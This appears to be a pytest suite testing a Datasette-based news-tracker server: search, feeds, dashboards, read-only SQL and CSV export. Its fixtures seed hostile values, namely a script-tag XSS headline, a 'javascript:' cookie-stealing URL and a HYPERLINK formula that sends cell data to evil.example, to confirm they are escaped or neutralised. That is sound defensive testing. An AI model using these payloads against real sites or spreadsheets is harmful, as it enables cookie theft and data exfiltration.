"""`tracker serve` against a real Datasette process on 127.0.0.1, plus a headless Chromium screenshot."""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import signal
import sqlite3
import struct
import subprocess
import sys
import tempfile
import time
import urllib.error
import urllib.parse
import urllib.request
from contextlib import contextmanager
from datetime import datetime, timedelta, timezone
from pathlib import Path
from typing import Any, Iterator
from xml.etree import ElementTree

import pytest

from tracker.store import open_db
from tracker.store.schema import TABLES, VIEWS
from tracker.serve.server import build_metadata

ARTIFACTS = Path(__file__).parent / "artifacts"
ATOM = "{http://www.w3.org/2005/Atom}"
N_STORIES = 1_205  # more than the 1,000 rows a query stops at
HOSTILE = '<script>alert("pwned")</script> Facial recognition <b>ban</b> & more'
PUBLISHERS = ["The Guardian", "BBC News", "Wired", "Reuters"]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'  # a crawled <title> (issue 15)
IDN_HOST = "bücher.example"  # shown by browsers decoded; really xn--bcher-kva.example


def _story_rows() -> tuple[list[tuple[Any, ...]], list[tuple[Any, ...]]]:
    """Stories 1..N_STORIES, each with 1-3 articles a day apart; story 1 is about facial recognition."""
    clusters, articles = [], []
    article_id = 0
    for story in range(1, N_STORIES + 1):
        n = 1 + story % 3
        day = f"2020-{1 + story % 12:02d}-{1 + story % 27:02d}"
        headline = HOSTILE if story == 7 else f"Story {story:04d} headline about data protection"
        for k in range(n):
            article_id += 1
            title = headline if k == 0 else f"Story {story:04d} follow-up {k}"
            if story == 8 and k == 1:
                title = FORMULA
            text = ("Police trial live facial recognition cameras in London" if story == 1
                    else f"Regulators discuss cookies and consent, item {article_id}")
            url = f"https://news{k}.example/{story}/{article_id}"
            if story == 7 and k == 1:
                url = "javascript:alert(document.cookie)//hostile"  # a seed can carry anything
            articles.append((article_id, url, title,
                             f"excerpt {article_id}", text, f"{day}T0{k}:00:00Z",
                             PUBLISHERS[(story + k) % 4], "en" if article_id % 5 else "fr",
                             json.dumps(["Privacy", "AI"] if story % 2 else ["Privacy"]), story))
        clusters.append((story, headline, f"{day}T00:00:00Z", f"{day}T0{n - 1}:00:00Z", n,
                         min(n, 4), json.dumps([PUBLISHERS[(story + k) % 4] for k in range(n)])))
    return clusters, articles


@pytest.fixture(scope="module")
def served_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("serve") / "tracker.db"
    db = open_db(path)
    clusters, articles = _story_rows()
    db.conn.execute("BEGIN")
    db.conn.executemany("INSERT INTO clusters (id, headline, first_seen, last_seen, n_articles, "
                        "n_publishers, publishers) VALUES (?, ?, ?, ?, ?, ?, ?)", clusters)
    db.conn.executemany("INSERT INTO articles (id, url, title, excerpt, text, published, publisher, "
                        "language, topics, cluster_id, status, first_seen) "
                        "VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, 'fetched', '2024-01-01T00:00:00Z')",
                        articles)
    db.conn.execute("UPDATE articles SET status = 'new', fetch_count = 0 WHERE id = 2")
    db.conn.execute("UPDATE articles SET fetch_count = 3, last_fetch_at = '2024-01-02T00:00:00Z' "
                    "WHERE id <> 2")
    db.conn.execute("UPDATE articles SET last_success_at = last_fetch_at WHERE id <> 2")
    db.conn.execute("INSERT INTO article_versions (article_id, version, fetched_at, title, text) "
                    "VALUES (1, 1, '2024-01-01T00:00:00Z', 'Old title', 'a'), "
                    "(1, 2, '2024-02-01T00:00:00Z', 'New title', 'ab')")
    db.conn.execute("INSERT INTO urls (url, article_id, kind, key) VALUES "
                    "('https://amp.news0.example/1/1', 1, 'amp', 'news0.example/1/1')")
    # story 5's last article copies its first (syndication): the story page folds it under it
    db.conn.execute("UPDATE articles SET duplicate_of = (SELECT MIN(id) FROM articles WHERE "
                    "cluster_id = 5) WHERE id = (SELECT MAX(id) FROM articles WHERE cluster_id = 5)")
    # story 11's first article comes from an internationalised host, and so does a fetch
    db.conn.execute("UPDATE articles SET publisher_domain = ? WHERE id = (SELECT MIN(id) FROM "
                    "articles WHERE cluster_id = 11)", [IDN_HOST])
    db.conn.execute("INSERT INTO fetches (article_id, url, requested_at, status, outcome) VALUES "
                    "(1, ?, '2024-01-02T00:00:00Z', 200, 'ok')", [f"https://{IDN_HOST}/1"])
    db.conn.execute("INSERT INTO runs (id, started_at, ended_at, status, new_stories, grown_stories) "
                    "VALUES (1, '2024-01-01T00:00:00Z', '2024-01-01T00:05:00Z', 'completed', 3, 1)")
    db.conn.executemany("INSERT INTO run_stories (run_id, story_id, change) VALUES (1, ?, ?)",
                        [(3, "created"), (4, "created"), (5, "created"), (2, "grew")])
    db.conn.execute("UPDATE clusters SET created_at = '2024-01-01T00:01:00Z' WHERE id IN (3, 4, 5)")
    db.conn.execute("COMMIT")
    db.conn.close()
    return path


def _wait_for_url(log: Path, proc: subprocess.Popen[bytes], timeout: float = 30) -> str:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        found = re.search(r"Uvicorn running on (http://\S+)", log.read_text(errors="replace"))
        if found:
            return found.group(1).rstrip("/")
        if proc.poll() is not None:
            break
        time.sleep(0.1)
    raise AssertionError(f"tracker serve did not start:\n{log.read_text(errors='replace')}")


@contextmanager
def serving(db_path: Path, log: Path, *extra: str) -> Iterator[str]:
    """A real `tracker serve` process on 127.0.0.1, port 0; yields its base URL (read back)."""
    with log.open("wb") as out:
        proc = subprocess.Popen([sys.executable, "-m", "tracker", "serve", "--db", str(db_path),
                                 "--port", "0", *extra], stdout=out, stderr=subprocess.STDOUT,
                                start_new_session=True)
    try:
        yield _wait_for_url(log, proc)
    finally:
        os.killpg(proc.pid, signal.SIGTERM)
        try:
            proc.wait(timeout=15)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            proc.wait()


@pytest.fixture(scope="module")
def server(served_db: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    with serving(served_db, tmp_path_factory.mktemp("serve-log") / "serve.log") as base:
        yield base


def get(base: str, path: str, **params: Any) -> tuple[int, str]:
    status, body = get_bytes(base, path, **params)
    return status, body.decode("utf-8")


def get_bytes(base: str, path: str, **params: Any) -> tuple[int, bytes]:
    url = base + path + ("?" + urllib.parse.urlencode(params, doseq=True) if params else "")
    try:
        with urllib.request.urlopen(url, timeout=30) as response:
            return response.status, response.read()
    except urllib.error.HTTPError as exc:
        return exc.code, exc.read()


def get_json(base: str, path: str, **params: Any) -> Any:
    status, body = get(base, path, **params)
    assert status == 200, body[:500]
    return json.loads(body)


# --- Metadata (no server needed) -----------------------------------------------------------------

def test_metadata_describes_every_table_view_and_analyst_column() -> None:
    tables = build_metadata("tracker")["databases"]["tracker"]["tables"]
    for name in [*TABLES, *VIEWS]:  # a new table or view needs a line in tracker/serve/datasette/metadata.json
        assert name in tables and (tables[name].get("description") or tables[name].get("description_html")), (
            f"describe {name} in tracker/serve/datasette/metadata.json")
    described = set(tables["articles"]["columns"])
    assert described <= set(TABLES["articles"]["columns"])  # no description of a column that is gone
    assert {"title", "published", "publisher", "language", "topics", "status", "cluster_id",
            "duplicate_of", "last_error"} <= described
    for view in ("stories", "story_articles", "weekly_activity"):
        assert set(tables[view]["columns"]) >= set(_view_columns(view)), view


def _view_columns(view: str) -> list[str]:
    db = open_db(":memory:")
    return [d[0] for d in db.conn.execute(f"SELECT * FROM {view} LIMIT 0").description]


def test_metadata_canned_queries_have_sql_and_aim_at_the_database() -> None:
    meta = build_metadata("news")
    queries = meta["databases"]["news"]["queries"]
    assert {"story", "latest_stories", "stories_by_publisher", "search", "search_stories",
            "story_feed"} <= set(queries)
    assert all(q["sql"].strip().upper().startswith("SELECT") for q in queries.values())
    assert "/news/stories" in meta["description_html"]
    charts = meta["plugins"]["datasette-dashboards"]["activity"]["charts"]
    assert {c["db"] for c in charts.values()} == {"news"}


# --- A real Datasette -----------------------------------------------------------------------------

def test_stories_view_lists_latest_first(server: str) -> None:
    data = get_json(server, "/tracker/stories.json", _shape="objects", _size=5)
    assert data["filtered_table_rows_count"] == N_STORIES
    rows = data["rows"]
    assert [r["last_seen"] for r in rows] == sorted((r["last_seen"] for r in rows), reverse=True)
    assert set(rows[0]) == {"id", "headline", "first_seen", "last_seen", "n_articles",
                            "n_publishers", "publishers"}
    status, html = get(server, "/tracker/stories")
    assert status == 200 and "One row per story" in html
    assert 'action="/tracker/search_stories"' in html  # a search box over stories
    assert re.search(r'<a href="/tracker/story\?id=\d+">\d+</a>', html)  # id links to the story


def test_story_page_lists_articles_in_publication_order(server: str) -> None:
    rows = get_json(server, "/tracker/story.json", id=2, _shape="array")
    assert [r["title"] for r in rows] == ["Story 0002 headline about data protection",
                                          "Story 0002 follow-up 1", "Story 0002 follow-up 2"]
    assert [r["published"] for r in rows] == sorted(r["published"] for r in rows)
    status, html = get(server, "/tracker/story", id=2)
    assert status == 200 and "Story 0002 follow-up 2" in html
    assert f'href="/tracker/articles/{rows[0]["article_id"]}"' in html
    status, html = get(server, "/tracker/articles", cluster_id=2)  # the story page, not a clusters row
    assert status == 200 and '<a href="/tracker/story?id=2">Story 0002 headline' in html
    assert 'href="/tracker/clusters/2"' not in html


def test_own_pages_skip_cell_rendering_and_other_pages_keep_it(server: str) -> None:
    from tracker.serve.datasette.plugins.tracker_links import is_own_page

    assert is_own_page("/tracker/search_stories") and is_own_page("/tracker/story")
    assert not is_own_page("/tracker/search_stories.json") and not is_own_page("/tracker/stories")
    assert not is_own_page("/tracker/articles/1") and not is_own_page("/-/dashboards/activity")
    status, html = get(server, "/tracker/search_stories", q="cameras")
    assert status == 200 and '<a class="headline" href="/tracker/story?id=1">' in html
    status, html = get(server, "/tracker/stories")  # after an own page, cells render links again
    assert re.search(r'<a href="/tracker/story\?id=\d+">\d+</a>', html)
    assert '<a href="/tracker/stories_by_publisher?publisher=' in html


def test_article_row_links_to_its_urls(server: str) -> None:
    status, html = get(server, "/tracker/articles/1")
    assert status == 200 and "/tracker/urls?article_id=1" in html


def test_full_text_search_table_and_canned_query(server: str) -> None:
    data = get_json(server, "/tracker/articles.json", _search="facial recognition", _shape="objects")
    # story 1's two articles say it in their text, story 7's hostile headline in its title
    assert sorted(r["cluster_id"] for r in data["rows"]) == [1, 1, 7]
    hits = get_json(server, "/tracker/search.json", q="cameras", _shape="array")
    assert {h["story_id"] for h in hits} == {1} and "[cameras]" in hits[0]["snippet"]
    assert get_json(server, "/tracker/search.json", q='"unbalanced', _shape="array") == []


def _table_search(base: str, text: str, **params: Any) -> list[int]:
    data = get_json(base, "/tracker/articles.json", _search=text, _shape="objects", _size="max",
                    _col="id", **params)
    return sorted(r["id"] for r in data["rows"])


def _page_search(base: str, text: str) -> list[int]:
    return sorted(r["article_id"] for r in get_json(base, "/tracker/search.json", q=text, _shape="array"))


def test_articles_table_search_box_speaks_the_search_pages_syntax(server: str) -> None:
    london, hostile = _page_search(server, "London"), _page_search(server, "pwned")
    assert len(london) == 2 and len(hostile) == 1  # story 1's two articles; story 7's headline
    for text in ("London OR pwned", "recogn*", "facial recognition", '"data protection" London',
                 "cameras NOT London", "live facial"):
        assert _table_search(server, text) == _page_search(server, text), text
    assert _table_search(server, "London OR pwned") == sorted(london + hostile)  # not 3 words
    assert _table_search(server, "recogn*") == sorted(london + hostile)  # a prefix
    assert _table_search(server, '"data protection" London') == london[:1]  # both phrases
    assert _table_search(server, "London cameras") == []  # a phrase, not two words anywhere
    assert _table_search(server, '"unbalanced') == []  # no syntax error
    assert _table_search(server, "London OR pwned", _searchmode="raw") == sorted(london + hostile)
    # no words at all: every article, as the search pages list everything (was an FTS5 error)
    n_articles = get_json(server, "/tracker/articles.json", _size=0)["filtered_table_rows_count"]
    for text in ("", "  ", "OR", '""'):
        data = get_json(server, "/tracker/articles.json", _search=text, _size=0)
        assert data["filtered_table_rows_count"] == n_articles, text
    status, html = get(server, "/tracker/articles", _search="GDPR OR recogn*")
    assert status == 200 and 'value="GDPR OR recogn*"' in html  # the box keeps what was typed


def test_facets_on_publisher_language_topic_and_date(server: str) -> None:
    data = get_json(server, "/tracker/articles.json", _facet=["publisher", "language"],
                    _facet_array="topics", _facet_date="published", _size=0)
    facets = data["facet_results"]
    n_articles = data["filtered_table_rows_count"]
    assert sum(v["count"] for v in facets["publisher"]["results"]) == n_articles
    assert {v["value"] for v in facets["publisher"]["results"]} == set(PUBLISHERS)
    assert {v["value"] for v in facets["language"]["results"]} == {"en", "fr"}
    assert {v["value"] for v in facets["topics"]["results"]} == {"Privacy", "AI"}
    assert facets["published"]["results"]


def test_stories_by_publisher_and_latest(server: str) -> None:
    rows = get_json(server, "/tracker/stories_by_publisher.json", publisher="Wired", _shape="array")
    assert rows and all(r["articles_by_publisher"] >= 1 for r in rows)
    assert get_json(server, "/tracker/stories_by_publisher.json", publisher=" wIRED ",
                    _shape="array") == rows  # names as people type them
    latest = get_json(server, "/tracker/latest_stories.json", _shape="array")
    assert len(latest) == 100


def test_unfetched_and_edits_views(server: str) -> None:
    problems = get_json(server, "/tracker/fetch_problems.json", _shape="array")
    assert [(p["article_id"], p["problem"]) for p in problems] == [(2, "never fetched")]
    edits = get_json(server, "/tracker/recent_edits.json", _shape="array")
    assert [(e["title"], e["previous_title"]) for e in edits] == [("New title", "Old title"),
                                                                 ("Old title", None)]


def test_csv_of_every_story_and_every_clustered_article(server: str) -> None:
    status, body = get(server, "/tracker/stories.csv", _stream="on")
    rows = list(csv.DictReader(io.StringIO(body)))
    assert status == 200 and len(rows) == N_STORIES
    assert len({r["id"] for r in rows}) == N_STORIES
    status, body = get(server, "/tracker/story_articles.csv", _stream="on")
    articles = list(csv.DictReader(io.StringIO(body)))
    assert len(articles) == len(_story_rows()[1])
    assert articles[0]["story_id"] == "1" and articles[0]["url"].startswith("https://")


def test_hostile_title_is_escaped(server: str) -> None:
    for path, params in (("/tracker/stories", {"id": 7}), ("/tracker/story", {"id": 7}),
                         ("/tracker/articles", {"cluster_id": 7})):
        status, html = get(server, path, **params)
        assert status == 200
        assert "&lt;script&gt;alert(" in html, path
        assert '<script>alert("pwned")' not in html and "<b>ban</b>" not in html, path
        assert 'href="javascript:' not in html, path
        if path != "/tracker/stories":  # pages listing URLs show this one as text, not as a link
            assert "javascript:alert(document.cookie)" in html, path
    feed = get_json(server, "/tracker/stories.json", id=7, _shape="array")
    assert feed[0]["headline"] == HOSTILE  # stored and served as the same text


def test_atom_feed_of_new_stories_for_a_search(server: str) -> None:
    status, xml = get(server, "/tracker/story_feed.atom", q="facial recognition")
    assert status == 200 and xml.startswith("<?xml")
    feed = ElementTree.fromstring(xml.split("\n", 1)[1])
    assert feed.findtext(f"{ATOM}title") == "New stories about a subject: facial recognition"
    entries = {e.findtext(f"{ATOM}id"): e for e in feed.findall(f"{ATOM}entry")}
    assert set(entries) == {"tag:privacy-news-tracker,2024:story/1", "tag:privacy-news-tracker,2024:story/7"}
    story1 = entries["tag:privacy-news-tracker,2024:story/1"]
    assert story1.find(f"{ATOM}link").get("href") == server + "/tracker/story?id=1"  # absolute
    content = story1.findtext(f"{ATOM}content")  # its articles as links, with their excerpts
    assert '<a href="https://news0.example/1/1">' in content and "excerpt 1" in content
    assert '<a href="https://news1.example/1/2">' in content and "excerpt 2" in content
    hostile = entries["tag:privacy-news-tracker,2024:story/7"]
    assert hostile.findtext(f"{ATOM}title") == HOSTILE and "<script>" not in xml
    assert 'href="javascript:' not in hostile.findtext(f"{ATOM}content")


def test_atom_feed_that_matches_nothing_is_a_valid_empty_feed(server: str) -> None:
    status, xml = get(server, "/tracker/story_feed.atom", q="zzzqqq nothing matches")
    assert status == 200, xml[:300]  # datasette-atom: 500, max() arg is an empty sequence
    feed = ElementTree.fromstring(xml.split("\n", 1)[1])
    assert feed.tag == f"{ATOM}feed" and feed.findall(f"{ATOM}entry") == []
    assert re.fullmatch(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ", feed.findtext(f"{ATOM}updated") or "")
    assert "zzzqqq nothing matches" in (feed.findtext(f"{ATOM}title") or "")
    assert feed.findtext(f"{ATOM}id")


def test_feed_links_use_the_public_base_url(served_db: Path, tmp_path: Path) -> None:
    with serving(served_db, tmp_path / "serve.log", "--base-url", "https://news.example.org/") as base:
        status, xml = get(base, "/tracker/story_feed.atom", q="cameras")
    assert status == 200
    feed = ElementTree.fromstring(xml.split("\n", 1)[1])
    assert feed.findtext(f"{ATOM}id") == "https://news.example.org/tracker/story_feed.atom?q=cameras"
    links = [e.find(f"{ATOM}link").get("href") for e in feed.findall(f"{ATOM}entry")]
    assert links == ["https://news.example.org/tracker/story?id=1"]


def test_dashboard_chart_page(server: str) -> None:
    status, html = get(server, "/-/dashboards/activity")
    assert status == 200 and "New stories and articles per week" in html


def test_every_dashboard_chart_obeys_its_dashboards_date_filters() -> None:
    dashboards = build_metadata("tracker")["plugins"]["datasette-dashboards"]
    for slug, dashboard in dashboards.items():
        for name in dashboard.get("filters", {}):
            for chart_slug, chart in dashboard["charts"].items():
                assert f":{name}" in chart["query"], f"{slug}/{chart_slug} ignores the {name} filter"


# --- The activity dashboard: every chart in one span of dates --------------------------------------

@pytest.fixture(scope="module")
def dashboard_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """200 articles (100 stories) a day apart from 2020-01-06, one story from 2013 (a background
    piece a related list links to) and one dated 2099 (a wrong date)."""
    path = tmp_path_factory.mktemp("dashboard") / "tracker.db"
    db = open_db(path)
    db.conn.execute("BEGIN")
    start = datetime(2020, 1, 6, 12, tzinfo=timezone.utc)
    days = [(start + timedelta(days=i)).strftime("%Y-%m-%dT%H:%M:%SZ") for i in range(200)]
    days += ["2013-07-04T16:36:00Z", "2099-01-01T00:00:00Z"]
    for i, day in enumerate(days):
        story = i // 2 + 1
        if i % 2 == 0 or i >= 200:
            db.conn.execute("INSERT INTO clusters (id, headline, first_seen, last_seen, n_articles) "
                            "VALUES (?, ?, ?, ?, 1)", [story if i < 200 else i, f"Story {i}", day, day])
        db.conn.execute("INSERT INTO articles (url, title, published, publisher, cluster_id, first_seen) "
                        "VALUES (?, ?, ?, ?, ?, '2024-01-01T00:00:00Z')",
                        [f"https://news.example/{i}", f"Article {i}", day,
                         "Old Times" if i == 200 else PUBLISHERS[i % 4], story if i < 200 else i])
    db.conn.execute("COMMIT")
    db.conn.close()
    with serving(path, tmp_path_factory.mktemp("dashboard-log") / "serve.log") as base:
        yield base


def _dashboard_charts(base: str, **filters: str) -> dict[str, list[dict[str, Any]]]:
    """Every chart of the activity dashboard as the browser gets it: the SQL the page hands to its
    script, run through Datasette's JSON API with the page's filters."""
    status, html = get(base, "/-/dashboards/activity", **filters)
    assert status == 200, html[:300]
    charts = {}
    for slug, config in re.findall(r"renderChart\('(\w+)', (\{.*?\}), '", html):
        query = json.loads(config)["query"]
        charts[slug] = get_json(base, "/tracker.json", sql=query, _shape="objects", **filters)["rows"]
    assert set(charts) == {"weekly", "publishers", "totals", "span"}
    return charts


def test_dashboard_default_span_leaves_out_stray_old_and_future_dates(dashboard_server: str) -> None:
    charts = _dashboard_charts(dashboard_server)
    weeks = sorted({row["week"] for row in charts["weekly"]})
    assert weeks[0] == "2020-01-06" and weeks[-1] < "2099"  # not stretched back to 2013 or on to 2099
    span = charts["span"][0]
    assert span["from"] == "2020-01-06"  # the oldest 1% (2 of 202) set aside, back to its Monday
    assert span["published before (left out)"] == 1 and span["dated after (left out)"] == 1
    assert sum(r["n"] for r in charts["weekly"] if r["kind"] == "articles") == 200
    assert sum(r["articles"] for r in charts["publishers"]) == 200
    assert "Old Times" not in {r["publisher"] for r in charts["publishers"]}
    assert charts["totals"] == [{"count": 100}]


def test_dashboard_date_filter_applies_to_every_chart(dashboard_server: str) -> None:
    # 2020-02-03 .. 2020-02-09: days 28-34 of the series, articles 28-34, stories 15-18 start there
    charts = _dashboard_charts(dashboard_server, since="2020-02-03", until="2020-02-09")
    assert {r["week"] for r in charts["weekly"]} == {"2020-02-03"}
    assert sum(r["n"] for r in charts["weekly"] if r["kind"] == "articles") == 7
    assert sum(r["n"] for r in charts["weekly"] if r["kind"] == "new stories") == 4
    assert sum(r["articles"] for r in charts["publishers"]) == 7
    assert charts["totals"] == [{"count": 4}]
    assert charts["span"][0]["from"] == "2020-02-03" and charts["span"][0]["until"] == "2020-02-09"
    old = _dashboard_charts(dashboard_server, since="2000-01-01")  # an early From brings 2013 back
    assert min(r["week"] for r in old["weekly"]) == "2013-07-01"
    assert "Old Times" in {r["publisher"] for r in old["publishers"]}


def test_screenshot_of_the_dashboard(dashboard_server: str) -> None:
    dom = _shoot(dashboard_server, "/-/dashboards/activity", "dashboard", wait_ms=5000)
    assert "Publishers with the most articles in the span" in dom and "2020-01-06" in dom
    assert "<svg" in dom or "<canvas" in dom  # the charts were drawn


def test_write_sql_is_refused(server: str, served_db: Path) -> None:
    for sql in ("DELETE FROM clusters", "UPDATE articles SET title = 'x'",
                "DROP VIEW stories", "ATTACH DATABASE '/tmp/x.db' AS x"):
        status, body = get(server, "/tracker.json", sql=sql)
        assert status == 400, (sql, body[:200])
    status, body = get(server, "/tracker.json", sql="WITH x AS (SELECT 1) DELETE FROM clusters")
    assert status in (400, 500)  # rejected by Datasette or by the read-only connection
    conn = sqlite3.connect(served_db)
    assert conn.execute("SELECT COUNT(*) FROM clusters").fetchone()[0] == N_STORIES
    conn.close()


def test_settings_limit_time_and_rows(server: str) -> None:
    settings = get_json(server, "/-/settings.json")
    assert settings["sql_time_limit_ms"] == 3000 and settings["default_page_size"] == 50
    assert settings["max_returned_rows"] == 1000 and settings["allow_download"] is False
    endless = "WITH RECURSIVE c(x) AS (SELECT 1 UNION ALL SELECT x + 1 FROM c) SELECT COUNT(*) FROM c"
    status, body = get(server, "/tracker.json", sql=endless, _timelimit=50)
    assert status == 400 and "interrupted" in body.lower()
    rows = get_json(server, "/tracker.json", sql="SELECT * FROM articles", _shape="objects")
    assert len(rows["rows"]) == 1000 and rows["truncated"]


def test_sees_writes_made_while_serving(server: str, served_db: Path) -> None:
    conn = sqlite3.connect(served_db)  # a crawl or clustering run writing to the WAL file
    conn.execute("INSERT INTO clusters (id, headline, first_seen, last_seen, n_articles) "
                 "VALUES (99999, 'Written while serving', '2030-01-01T00:00:00Z', "
                 "'2030-01-01T00:00:00Z', 0)")
    conn.commit()
    try:
        rows = get_json(server, "/tracker/stories.json", _shape="array", _size=1)
        assert rows[0]["headline"] == "Written while serving"
    finally:
        conn.execute("DELETE FROM clusters WHERE id = 99999")
        conn.commit()
        conn.close()


def test_given_seed_stories_served_end_to_end(shared_dir: Path, tmp_path: Path) -> None:
    from tracker.seeds.files import load_seeds
    from tracker.stories.cluster_stage import cluster_articles

    path = tmp_path / "given.db"
    db = open_db(path)
    load_seeds(db, [str(shared_dir / "seeds" / "given")])
    cluster_articles(db)
    live = db.conn.execute("SELECT id, n_articles FROM clusters WHERE merged_into IS NULL").fetchall()
    db.conn.close()
    with serving(path, tmp_path / "serve.log") as base:
        stories = get_json(base, "/given/stories.json", _shape="array")
        assert sorted((s["id"], s["n_articles"]) for s in stories) == sorted(live)
        for story_id, n_articles in live:
            assert len(get_json(base, "/given/story.json", id=story_id, _shape="array")) == n_articles
        hits = get_json(base, "/given/search.json", q="Facewatch", _shape="array")
        assert hits and {h["story_id"] for h in hits} <= {s["id"] for s in stories}


# --- The pages analysts read: home, search, story ---------------------------------------------------

def _links(html: str) -> list[str]:
    return re.findall(r'href="([^"]+)"', html)


def test_home_page_opens_on_the_newest_stories_and_hides_internal_tables(server: str) -> None:
    status, html = get(server, "/")
    assert status == 200
    newest = get_json(server, "/tracker.json", _shape="array", sql="SELECT id, headline FROM clusters "
                      "WHERE merged_into IS NULL ORDER BY first_seen DESC, id DESC LIMIT 3")
    for story in newest:
        assert f'href="/tracker/story?id={story["id"]}"' in html
    assert 'action="/tracker/search_stories"' in html and "Growing fastest" in html
    assert "/tracker/new_stories?run=1" in html  # the last run's new stories, one click away
    links = _links(html)
    for internal in ("relations", "urls", "article_merges", "story_links", "hosts"):
        assert f"/tracker/{internal}" not in links, internal
    status, db_page = get(server, "/tracker")
    assert status == 200 and "select * from article_lens" in db_page  # first by name, not article_merges (0 rows)
    assert "/tracker/relations" not in _links(db_page.split("hidden table")[0])
    assert get(server, "/tracker/relations")[0] == 200  # hidden, still reachable


def test_search_takes_phrases_or_and_prefixes_and_an_empty_query(server: str) -> None:
    def story_ids(q: str, **params: Any) -> set[int]:
        return {h["story_id"] for h in get_json(server, "/tracker/search.json", q=q, _shape="array",
                                                 **params)}

    assert story_ids("recognition cameras") == {1}
    assert story_ids("cameras recognition") == set()  # a phrase, not two words anywhere
    assert story_ids("London OR ban") == {1, 7}
    assert story_ids("recogn*") == {1, 7}
    assert story_ids('"unbalanced') == set() and story_ids("OR") != set()
    status, html = get(server, "/tracker/search", q="")
    assert status == 200 and "syntax error" not in html  # an empty search lists everything
    everything = get_json(server, "/tracker/search.json", q="", _shape="array")
    assert len(everything) == 50  # a page; the next one goes on where it stopped
    following = get_json(server, "/tracker/search.json", q="", page="2", _shape="array")
    assert len(following) == 50 and following[0]["published"] <= everything[-1]["published"]
    assert not {r["article_id"] for r in everything} & {r["article_id"] for r in following}
    assert [r["published"] for r in everything] == sorted((r["published"] for r in everything), reverse=True)
    oldest = get_json(server, "/tracker/search.json", q="consent", sort="oldest", _shape="array")
    assert [r["published"] for r in oldest] == sorted(r["published"] for r in oldest)


def test_search_by_story_sorts_by_relevance_or_date(server: str) -> None:
    stories = get_json(server, "/tracker/search_stories.json", q="facial recognition", _shape="array")
    assert {s["story_id"] for s in stories} == {1, 7}
    assert all(s["headline"] and s["n_articles"] for s in stories)
    newest = get_json(server, "/tracker/search_stories.json", q="consent", sort="newest", _shape="array")
    assert [s["last_seen"] for s in newest] == sorted((s["last_seen"] for s in newest), reverse=True)
    every = get_json(server, "/tracker/search_stories.json", q="", _shape="array")
    assert len(every) == 50 and every[0]["last_seen"] == max(s["last_seen"] for s in every)
    later = get_json(server, "/tracker/search_stories.json", q="", page="3", _shape="array")
    assert len(later) == 50 and later[0]["last_seen"] <= every[-1]["last_seen"]
    status, html = get(server, "/tracker/search_stories", q="facial recognition")
    assert status == 200 and '<a class="headline" href="/tracker/story?id=1">' in html
    assert "&lt;script&gt;alert(" in html and '<script>alert("pwned")' not in html


def test_story_page_reads_as_a_story(server: str) -> None:
    status, html = get(server, "/tracker/story", id=2)
    assert status == 200
    assert "<title>Story 0002 headline about data protection</title>" in html
    assert "first published <time>2020-03-03T00:00:00Z</time>" in html
    assert "last published <time>2020-03-03T02:00:00Z</time>" in html
    assert "excerpt 3" in html and 'href="https://news0.example/2/3"' in html  # excerpt and link
    assert html.index("Story 0002 headline") < html.index("Story 0002 follow-up 1") < html.index(
        "Story 0002 follow-up 2")
    assert "Stories on the same subject" in html
    neighbours = re.findall(r'<a href="/tracker/story\?id=(\d+)">Story \d+ headline', html)
    assert neighbours and "2" not in neighbours
    status, html = get(server, "/tracker/story", id=5)  # its last article copies its first
    first, copy = get_json(server, "/tracker.json", _shape="array", sql="SELECT id FROM articles "
                           "WHERE cluster_id = 5 AND id IN (SELECT MIN(id) FROM articles WHERE "
                           "cluster_id = 5 UNION SELECT MAX(id) FROM articles WHERE cluster_id = 5) ORDER BY id")
    folded = html.split("<details>")[1].split("</details>")[0]
    assert f'>#{copy["id"]}<' in folded and f'>#{first["id"]}<' not in folded
    status, html = get(server, "/tracker/story", id=999999)
    assert status == 200 and "No story 999999" in html


def test_lists_read_as_text_and_publishers_link_to_their_stories(server: str) -> None:
    status, html = get(server, "/tracker/stories", id=2)
    assert status == 200 and '["' not in html
    assert '<a href="/tracker/stories_by_publisher?publisher=Reuters">Reuters</a>; ' in html
    status, html = get(server, "/tracker/articles", id=1)
    assert "Privacy; AI" in html


def test_punycode_hosts_are_shown_in_ascii(server: str) -> None:
    status, html = get(server, "/tracker/story", id=11)
    assert status == 200 and "xn--bcher-kva.example (bücher.example)" in html
    status, html = get(server, "/tracker/fetches")
    assert status == 200 and 'href="https://xn--bcher-kva.example/1"' in html
    assert f'href="https://{IDN_HOST}/1"' not in html
    status, html = get(server, "/tracker/articles", publisher_domain=IDN_HOST)
    assert status == 200 and "xn--bcher-kva.example" in html


def test_new_since_the_last_run(server: str) -> None:
    rows = get_json(server, "/tracker/new_stories.json", run=1, _shape="array")
    assert [(r["story_id"], r["change"]) for r in rows] == [(5, "created"), (4, "created"),
                                                            (3, "created"), (2, "grew")]
    every = get_json(server, "/tracker/new_stories.json", _shape="array")
    assert [r["story_id"] for r in every[:3]] == [5, 4, 3]  # by when the tracker first saw them
    status, html = get(server, "/tracker/runs")
    assert status == 200 and '<a href="/tracker/new_stories?run=1">3</a>' in html
    assert '<a href="/tracker/new_stories?run=1">1</a>' in html


# --- CSV that a spreadsheet opens safely ---------------------------------------------------------------

def _csv_rows(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8-sig"))))


def test_csv_cells_never_start_a_formula(server: str) -> None:
    for path, params in (("/tracker/story_articles.csv", {"_stream": "on"}),
                         ("/tracker/articles.csv", {"_stream": "on", "_size": "max"}),
                         ("/tracker/story.csv", {"id": 8}),
                         ("/tracker.csv", {"sql": "SELECT title, -1 AS n, '-2' AS s FROM articles "
                                                  "WHERE cluster_id = 8"})):
        status, body = get_bytes(server, path, **params)
        assert status == 200, (path, body[:200])
        titles = [row["title"] for row in _csv_rows(body)]
        assert "'" + FORMULA in titles, path
        assert not any(t.startswith(("=", "+", "-", "@")) for t in titles), path
        if path == "/tracker.csv":
            assert {row["n"] for row in _csv_rows(body)} == {"-1"}  # a number is not a formula
    rows = get_json(server, "/tracker/story.json", id=8, _shape="array")
    assert FORMULA in [r["title"] for r in rows]  # JSON keeps the text as stored


